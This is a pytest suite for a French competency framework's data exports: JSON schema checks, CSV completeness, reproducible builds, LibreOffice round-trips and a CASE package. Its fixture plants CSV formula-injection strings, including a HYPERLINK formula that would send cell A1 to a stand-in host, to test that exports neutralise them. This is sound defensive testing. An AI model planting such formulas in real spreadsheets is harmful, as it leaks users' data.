"""The data exports (/donnees/): JSON against its schema, CSV through LibreOffice, nothing lost,
the same bytes from the same sources, hostile text kept as text, the downloads page."""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import subprocess
import uuid
from collections.abc import Iterator
from datetime import datetime
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from helpers import FIXTURE, REPO, build, check, fixture, make_project, run_referentiel
from referentiel import downloads, export_case, export_csv, export_json, routes
from referentiel.load import load_framework
from referentiel.model import Framework

CSV_TABLES = {
    "domaines", "missions", "niveaux", "competences", "descripteurs", "roles", "exigences", "parcours", "ecarts",
    "formations", "couverture-formations", "glossaire", "faux-amis",
}
#: Planted in the fixture's sources: each starts as a spreadsheet formula would.
HOSTILE = {
    "title": '=HYPERLINK("http://example.invalid/?"&A1;"clic")',
    "summary": "+1+2",
    "description": "-3+4\nsuite ; « guillemets » \"doubles\"",
    "term_short": "@SUM(1;2)",
}


@pytest.fixture(scope="module")
def content() -> Framework:
    return load_framework(REPO)


def _hostile_project(target: Path) -> Path:
    project = make_project(target)
    path = project / "competencies" / "piloter-budget.yml"
    text = path.read_text("utf-8")
    text = text.replace("title: Piloter le budget d’une opération", f"title: {json.dumps(HOSTILE['title'])}")
    summary = f"summary: {json.dumps(HOSTILE['summary'])}"
    text = text.replace("summary: Tenir l’enveloppe financière prévisionnelle.", summary)
    description = f"description: {json.dumps(HOSTILE['description'], ensure_ascii=False)}"
    text = re.sub(r"^description: .*$", lambda _: description, text, flags=re.MULTILINE)
    path.write_text(text, "utf-8")
    term = next((project / "glossary").glob("*.yml"))
    short = f"short: {json.dumps(HOSTILE['term_short'])}"
    term.write_text(re.sub(r"^short: .*$", lambda _: short, term.read_text("utf-8"), flags=re.MULTILINE), "utf-8")
    return project


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Framework:
    framework = load_framework(_hostile_project(tmp_path_factory.mktemp("hostile") / "project"))
    assert framework.competencies["piloter-budget"].title == HOSTILE["title"]
    return framework


def _schema() -> dict[str, Any]:
    schema: dict[str, Any] = json.loads((REPO / "referentiel" / export_json.SCHEMA_FILE).read_text("utf-8"))
    return schema


@pytest.mark.parametrize("which", ["content", "hostile", "mini", "partial"])
def test_the_json_validates_against_its_schema(which: str, request: pytest.FixtureRequest) -> None:
    """Our content, hostile text, the mini fixture, and the partial one (named scales, several
    domains, levels and descriptors left out)."""
    if which in ("mini", "partial"):
        framework = load_framework(FIXTURE if which == "mini" else FIXTURE.parent / "partial")
    else:
        framework = request.getfixturevalue(which)
    schema = _schema()
    jsonschema.Draft202012Validator.check_schema(schema)
    data = json.loads(export_json.dumps(export_json.document(framework)))
    errors = [f"{e.json_path}: {e.message}" for e in jsonschema.Draft202012Validator(schema).iter_errors(data)]
    assert errors == []


def test_the_schema_refuses_what_it_should() -> None:
    """The schema is not a blank check: a missing field, an extra one, a bad id are refused."""
    data = json.loads(export_json.dumps(export_json.document(load_framework(FIXTURE))))
    validator = jsonschema.Draft202012Validator(_schema())
    broken = json.loads(json.dumps(data))
    del broken["competencies"][0]["levels"]
    broken["roles"][0]["extra"] = 1
    broken["glossary"][0]["id"] = "Pas un identifiant"
    assert len(list(validator.iter_errors(broken))) == 3


def test_the_json_holds_every_entity(content: Framework) -> None:
    """Nothing lost: every entity of every kind, every descriptor, requirement, coverage, gap line."""
    fw = content
    data = json.loads(export_json.dumps(export_json.document(fw)))
    assert (data["version"], data["date"]) == (fw.journal[0].version, fw.journal[0].date)
    ids = {kind: [item["id"] for item in data[kind]] for kind in (
        "domains", "missions", "competencies", "roles", "paths", "trainings", "glossary", "deliverables")}
    assert ids["domains"] == list(fw.domains)
    assert ids["missions"] == list(fw.missions)
    assert ids["competencies"] == list(fw.competencies)
    assert ids["roles"] == list(fw.roles)
    assert ids["paths"] == [p.id for p in fw.career_paths]
    assert ids["trainings"] == list(fw.trainings)
    assert ids["glossary"] == list(fw.terms)
    assert ids["deliverables"] == [d.id for d in fw.published] and len(fw.published) > 0
    assert [v["version"] for v in data["journal"]] == [v.version for v in fw.journal]
    assert fw.scale is not None
    assert [lv["level"] for lv in data["scale"]["levels"]] == [lv.number for lv in fw.scale.levels]
    for item in data["competencies"]:
        competency = fw.competencies[item["id"]]
        assert {lv["level"]: lv["descriptor"] for lv in item["levels"]} == dict(competency.levels)
        assert (item["title"], item["description"], item["esco"]) == (
            competency.title, competency.description, list(competency.esco))
    for item in data["roles"]:
        role = fw.roles[item["id"]]
        assert [(q["competency"], q["level"], q["importance"]) for q in item["requirements"]] == [
            (q.competency, q.level, q.importance) for q in role.requirements]
    gap_lines = 0
    for item, path in zip(data["paths"], fw.career_paths, strict=True):
        gaps = fw.gap(fw.roles[path.origin], fw.roles[path.target])
        assert [(g["competency"], g["now"], g["required"], g["trainings"]) for g in item["gaps"]] == [
            (g.competency.id, g.now, g.required, [t.id for t in g.trainings]) for g in gaps]
        gap_lines += len(gaps)
    assert gap_lines > 0
    for item in data["glossary"]:
        term = fw.terms[item["id"]]
        assert item["english"] == list(term.english)
        friends = [(f.term, f.reason) for f in term.false_friends]
        assert [(f["term"], f["reason"]) for f in item["false_friends"]] == friends
    assert sum(len(t["covers"]) for t in data["trainings"]) == sum(len(t.covers) for t in fw.trainings.values())


def test_the_csv_tables_hold_every_entity(content: Framework) -> None:
    fw = content
    tables = {t.name: t for t in export_csv.tables(export_json.document(fw))}
    assert set(tables) == CSV_TABLES
    assert fw.scale is not None
    expected = {
        "domaines": len(fw.domains), "missions": len(fw.missions), "niveaux": len(fw.scale.levels),
        "competences": len(fw.competencies), "descripteurs": sum(len(c.levels) for c in fw.competencies.values()),
        "roles": len(fw.roles), "exigences": sum(len(r.requirements) for r in fw.roles.values()),
        "parcours": len(fw.career_paths),
        "ecarts": sum(len(fw.gap(fw.roles[p.origin], fw.roles[p.target])) for p in fw.career_paths),
        "formations": len(fw.trainings), "couverture-formations": sum(len(t.covers) for t in fw.trainings.values()),
        "glossaire": len(fw.terms), "faux-amis": sum(len(t.false_friends) for t in fw.terms.values()),
    }
    for name, count in expected.items():
        assert count > 0, name
        assert len(tables[name].rows) == count, name
        # and the file holds them: parsed back as Python reads CSV
        rows = list(csv.reader(export_csv.to_csv(tables[name]).decode("utf-8-sig").splitlines(keepends=True),
                               delimiter=";"))
        assert rows[0] == list(tables[name].columns) and len(rows) == count + 1, name
    assert [row[0] for row in tables["competences"].rows] == list(fw.competencies)
    assert [row[0] for row in tables["glossaire"].rows] == list(fw.terms)


def test_the_exports_are_the_same_bytes_every_time(content: Framework) -> None:
    """Same sources → same bytes: a second load and export changes nothing."""
    first = {f.path: f.content for f in downloads.files(content)}
    again = {f.path: f.content for f in downloads.files(load_framework(REPO))}
    assert first == again


def test_hostile_text_stays_text(hostile: Framework) -> None:
    """The JSON keeps the text exactly; a CSV cell that would start a formula starts with « ' »."""
    document = export_json.document(hostile)
    data = json.loads(export_json.dumps(document))
    competency = next(c for c in data["competencies"] if c["id"] == "piloter-budget")
    assert (competency["title"], competency["summary"], competency["description"]) == (
        HOSTILE["title"], HOSTILE["summary"], HOSTILE["description"])
    tables = {t.name: t for t in export_csv.tables(document)}
    text = export_csv.to_csv(tables["competences"]).decode("utf-8-sig")
    rows = {row[0]: row for row in csv.reader(text.splitlines(keepends=True), delimiter=";")}
    row = dict(zip(tables["competences"].columns, rows["piloter-budget"], strict=True))
    assert row["title"] == "'" + HOSTILE["title"]
    assert row["summary"] == "'" + HOSTILE["summary"]
    assert row["description"] == "'" + HOSTILE["description"]
    glossary = export_csv.to_csv(tables["glossaire"]).decode("utf-8-sig")
    assert '"\'' + HOSTILE["term_short"] + '"' in glossary
    for table in tables.values():
        for cells in table.rows:
            for cell in cells:
                if isinstance(cell, str):
                    assert not export_csv.neutralise(cell).startswith(export_csv.FORMULA_STARTS)


# --- LibreOffice -------------------------------------------------------------------------------

#: Import: « ; », « " », charset left to the file (its BOM), from line 1, quoted cells as text.
LO_IMPORT = "CSV:59,34,,1,,0,true"
#: The control: what a careless import does (no quoted-as-text, formulas evaluated).
LO_CARELESS = "CSV:59,34,,1,,0,false,false,false,false,false,-1,true"
#: Export back: « ; », « " », UTF-8, every text cell quoted.
LO_EXPORT = "csv:Text - txt - csv (StarCalc):59,34,76,1,,0,true,true"


def _soffice(folder: Path, infilter: str, out: Path) -> None:
    binary = shutil.which("soffice") or shutil.which("libreoffice")
    if binary is None:  # as the browser tests: skipped and said outside CI, failed in CI
        reason = "LibreOffice is missing: apt-get install libreoffice-calc (or run .ci/run as root)"
        if os.environ.get("CI") == "true":
            pytest.fail(f"{reason} (CI=true: the LibreOffice test must run)", pytrace=False)
        pytest.skip(reason)
    files = sorted(str(path) for path in folder.glob("*.csv"))
    subprocess.run(
        [binary, f"-env:UserInstallation=file://{out.parent / 'lo-profile'}", "--headless", f"--infilter={infilter}",
         "--convert-to", LO_EXPORT, "--outdir", str(out), *files],
        check=True, capture_output=True, timeout=300,
    )


def _read_back(path: Path) -> list[list[str]]:
    return list(csv.reader(path.read_text("utf-8").splitlines(keepends=True), delimiter=";"))


def _expected(cell: export_csv.Cell) -> str:
    return "" if cell is None else str(cell) if isinstance(cell, int) else export_csv.neutralise(cell)


@pytest.fixture(scope="module")
def libreoffice(content: Framework, hostile: Framework, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Every CSV of our référentiel and of the hostile project, converted in one LibreOffice run."""
    tmp = tmp_path_factory.mktemp("lo")
    folder = tmp / "in"
    folder.mkdir()
    for prefix, framework in (("", content), ("hostile-", hostile)):
        for file in downloads.files(framework):
            if file.path.endswith(".csv"):
                (folder / f"{prefix}{file.name}").write_bytes(file.content)
    _soffice(folder, LO_IMPORT, tmp / "out")
    return tmp / "out"


def test_libreoffice_reads_every_cell_back(content: Framework, libreoffice: Path) -> None:
    """Accents, « ; » and line breaks inside cells, numbers as numbers: each cell as the model holds it."""
    tables = export_csv.tables(export_json.document(content))
    assert {path.stem for path in libreoffice.glob("*.csv") if not path.stem.startswith("hostile-")} == CSV_TABLES
    for table in tables:
        rows = _read_back(libreoffice / f"{table.name}.csv")
        assert rows[0] == list(table.columns), table.name
        assert rows[1:] == [[_expected(cell) for cell in cells] for cells in table.rows], table.name
    competencies = {row[0]: row for row in _read_back(libreoffice / "competences.csv")[1:]}
    for competency in content.competencies.values():
        assert competencies[competency.id][1] == competency.title
        assert competencies[competency.id][6] == competency.description
        assert competencies[competency.id][7] == "\n".join(competency.missions)
    descriptors = _read_back(libreoffice / "descripteurs.csv")[1:]
    assert [(row[0], int(row[1]), row[2]) for row in descriptors] == [
        (c.id, number, text) for c in content.competencies.values() for number, text in c.levels.items()]
    english = {row[0]: row[6] for row in _read_back(libreoffice / "glossaire.csv")[1:]}
    assert english == {t.id: "\n".join(t.english) for t in content.terms.values()}
    text = "".join(path.read_text("utf-8") for path in libreoffice.glob("*.csv"))
    assert "é" in text and "’" in text and "Ã" not in text, "accents read as UTF-8"
    assert any("\n" in cell for row in descriptors + list(competencies.values()) for cell in row) or any(
        "\n" in v for v in english.values()), "a line break inside a cell"


def test_libreoffice_runs_no_formula(hostile: Framework, libreoffice: Path, tmp_path: Path) -> None:
    rows = {row[0]: row for row in _read_back(libreoffice / "hostile-competences.csv")}
    assert rows["piloter-budget"][1] == "'" + HOSTILE["title"]
    assert rows["piloter-budget"][5] == "'" + HOSTILE["summary"]
    assert rows["piloter-budget"][6] == "'" + HOSTILE["description"]
    # Even a careless import (cells not taken as text, formulas evaluated) runs none of them …
    folder = tmp_path / "in"
    folder.mkdir()
    tables = {t.name: t for t in export_csv.tables(export_json.document(hostile))}
    (folder / "neutralised.csv").write_bytes(export_csv.to_csv(tables["competences"]))
    # … while the same cell left as it is would run: the control.
    (folder / "raw.csv").write_bytes(b'\xef\xbb\xbf"title"\r\n"=1+1"\r\n')
    _soffice(folder, LO_CARELESS, tmp_path / "out")
    careless = {row[0]: row for row in _read_back(tmp_path / "out" / "neutralised.csv")}
    assert careless["piloter-budget"][1] == "'" + HOSTILE["title"]
    assert careless["piloter-budget"][5] == "'" + HOSTILE["summary"]
    assert _read_back(tmp_path / "out" / "raw.csv")[1] == ["2"]


# --- the site ----------------------------------------------------------------------------------


class _Ids(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.ids: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.ids |= {value for name, value in attrs if name == "id" and value}


def _pages(data: Any) -> Iterator[str]:
    if isinstance(data, dict):
        for key, value in data.items():
            if key == "page" and isinstance(value, str):
                yield value
            else:
                yield from _pages(value)
    elif isinstance(data, list):
        for item in data:
            yield from _pages(item)


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    project = make_project(tmp_path_factory.mktemp("built") / "project")
    run = build(project)
    assert run.code == 0, run.output
    return project


def test_every_page_url_of_the_json_is_on_the_site(built: Path) -> None:
    site = built / "site"
    data = json.loads((site / "donnees" / "referentiel.json").read_text("utf-8"))
    pages = list(_pages(data))
    assert len(pages) > 20
    ids: dict[str, set[str]] = {}
    for page in pages:
        folder, _, anchor = page.partition("#")
        html = site / folder / "index.html"
        assert html.is_file(), page
        if anchor:
            if folder not in ids:
                parser = _Ids()
                parser.feed(html.read_text("utf-8"))
                ids[folder] = parser.ids
            assert anchor in ids[folder], page


def test_the_build_publishes_the_files_and_lists_them_with_their_size(built: Path) -> None:
    site = built / "site"
    framework = load_framework(built)
    expected = {f.name: f.content for f in downloads.files(framework)}
    assert {path.name for path in (site / "donnees").iterdir()} == {*expected, "index.html"}
    for name, content in expected.items():
        assert (site / "donnees" / name).read_bytes() == content, name
    page = (site / "donnees" / "index.html").read_text("utf-8")
    for name in expected:
        row = re.search(rf'<tr>\s*<td><a href="{re.escape(name)}">.*?</tr>', page, re.DOTALL)
        assert row, name
        size = (site / "donnees" / name).stat().st_size
        shown = re.search(r"([\d\u00a0]+)\u00a0octets", row.group())
        assert shown and int(shown.group(1).replace("\u00a0", "")) == size, name
    version = framework.journal[0]
    assert f"Version\u00a0: {version.version} du {version.date}" in page  # French spacing by the build
    assert "licence\u00a0: non précisée" in page.lower() and "MIT" in page
    assert 'href="donnees/"' in (site / "index.html").read_text("utf-8"), "in the navigation"


def test_two_builds_give_the_same_exports(built: Path, tmp_path: Path) -> None:
    """A second build of the same sources, and `referentiel generate`, write byte-identical files."""
    first = {p.name: p.read_bytes() for p in (built / "site" / "donnees").iterdir()}
    again = make_project(tmp_path / "again")
    assert build(again).code == 0
    second = {p.name: p.read_bytes() for p in (again / "site" / "donnees").iterdir()}
    assert first == second
    run = run_referentiel(again, "generate", "--out", str(tmp_path / "generated"))
    assert run.code == 0, run.output
    generated = {p.name: p.read_bytes() for p in (tmp_path / "generated" / "donnees").iterdir()}
    assert generated.keys() == {*first} - {"index.html"} | {"index.md"}
    assert all(generated[name] == content for name, content in first.items() if name != "index.html")


def test_the_route_is_known() -> None:
    """/donnees/ is a fixed page of the site: a hand-written docs/donnees/index.md is refused."""
    assert routes.DATA in routes.FIXED
    assert downloads.page(load_framework(FIXTURE), []).path == routes.DATA


# --- CASE 1.1 ----------------------------------------------------------------------------------


def _case(framework: Framework) -> dict[str, Any]:
    package: dict[str, Any] = json.loads(export_json.dumps(export_case.package(export_json.document(framework))))
    return package


@pytest.mark.parametrize("which", ["content", "hostile"])
def test_the_case_package_is_valid_against_the_official_schema(which: str, request: pytest.FixtureRequest) -> None:
    schema = json.loads(fixture("standards/case-v1p1-cfpackage-schema.json").read_text("utf-8"))
    package = _case(request.getfixturevalue(which))
    validator = jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker())
    assert [f"{e.json_path}: {e.message}" for e in validator.iter_errors(package)] == []
    # The formats jsonschema cannot check without extra packages (uri, date-time), checked here.
    for node in _walk(package):
        for key in ("uri", "originNodeURI", "destinationNodeURI", "CFItemURI"):
            value = node.get(key)
            uri = value["uri"] if isinstance(value, dict) else value
            if uri is not None:
                assert re.fullmatch(r"urn:uuid:[0-9a-f-]{36}|https?://\S+", uri), uri
        if "lastChangeDateTime" in node:
            assert datetime.fromisoformat(node["lastChangeDateTime"]).tzinfo is not None


def _walk(data: Any) -> Iterator[dict[str, Any]]:
    if isinstance(data, dict):
        yield data
        for value in data.values():
            yield from _walk(value)
    elif isinstance(data, list):
        for item in data:
            yield from _walk(item)


def test_the_case_package_holds_every_entity(content: Framework) -> None:
    fw = content
    package = _case(fw)
    items = {(item["CFItemType"], item["humanCodingScheme"]): item for item in package["CFItems"]}
    assert len(items) == len(package["CFItems"]) == len(fw.domains) + len(fw.competencies) + len(fw.roles)
    for kind, ids in (("Domaine", fw.domains), ("Compétence", fw.competencies), ("Rôle", fw.roles)):
        for entity_id in ids:
            assert (kind, entity_id) in items, (kind, entity_id)
    for competency in fw.competencies.values():
        assert items["Compétence", competency.id]["fullStatement"] == competency.title
    by_type: dict[str, list[tuple[str, str]]] = {}
    for association in package["CFAssociations"]:
        pair = (association["originNodeURI"]["identifier"], association["destinationNodeURI"]["identifier"])
        by_type.setdefault(association["associationType"], []).append(pair)
    case = export_case.identifier
    assert sorted(by_type["isChildOf"]) == sorted(
        [(case("domain", d), case("document", "referentiel")) for d in fw.domains]
        + [(case("competency", c.id), case("domain", c.domain)) for c in fw.competencies.values()]
        + [(case("role", r), case("document", "referentiel")) for r in fw.roles])
    assert sorted(by_type["isRelatedTo"]) == sorted(
        (case("competency", c.id), case("competency", o)) for c in fw.competencies.values() for o in c.related)
    assert sorted(by_type["exactMatchOf"]) == sorted(
        (case("competency", c.id), uri) for c in fw.competencies.values() for uri in c.esco)
    assert len(by_type["exactMatchOf"]) > 0
    assert sorted(by_type["ext:requires"]) == sorted(
        (case("role", r.id), case("competency", q.competency)) for r in fw.roles.values() for q in r.requirements)
    criteria = package["CFRubrics"][0]["CFRubricCriteria"]
    assert [c["CFItemURI"]["identifier"] for c in criteria] == [case("competency", c) for c in fw.competencies]
    assert [[(lv["score"], lv["description"]) for lv in c["CFRubricCriterionLevels"]] for c in criteria] == [
        list(c.levels.items()) for c in fw.competencies.values()]
    identifiers = [node["identifier"] for node in _walk(package) if "lastChangeDateTime" in node]
    assert len(identifiers) == len(set(identifiers)), "every identifier once"


def test_case_identifiers_are_uuid5_of_the_ids() -> None:
    """The same id always gives the same identifier (a UUIDv5 in the package's fixed namespace)."""
    namespace = uuid.uuid5(uuid.NAMESPACE_URL, "https://institut-imoa.github.io/referentiel-moa/case")
    expected = str(uuid.uuid5(namespace, "competency:piloter-budget"))
    assert export_case.identifier("competency", "piloter-budget") == expected
    assert uuid.UUID(export_case.identifier("role", "x")).version == 5
    mini = _case(load_framework(FIXTURE))
    assert mini["CFDocument"]["identifier"] == _case(load_framework(FIXTURE))["CFDocument"]["identifier"]
    budget = next(i for i in mini["CFItems"] if i["humanCodingScheme"] == "piloter-budget")
    assert budget["identifier"] == export_case.identifier("competency", "piloter-budget")


def test_a_hand_written_file_in_the_data_folder_is_refused(tmp_path: Path) -> None:
    """The build would replace docs/donnees/referentiel.json by the export without a word: check
    and the strict build refuse it, with where and what to do."""
    project = make_project(tmp_path / "project")
    (project / "docs" / "donnees").mkdir()
    (project / "docs" / "donnees" / "referentiel.json").write_text('{"faux": true}', "utf-8")
    expected = (
        "docs/donnees/referentiel.json:1:1: fichier dans donnees/, le dossier des données que le référentiel écrit"
        " — déplacez-le dans un autre dossier de docs/ : les fichiers de données sont générés"
    )
    for run in (check(project), build(project)):
        assert run.code == 1 and "Traceback" not in run.output, run.output
        assert expected in run.output.splitlines(), run.output
    assert not (project / "site" / "donnees").exists()
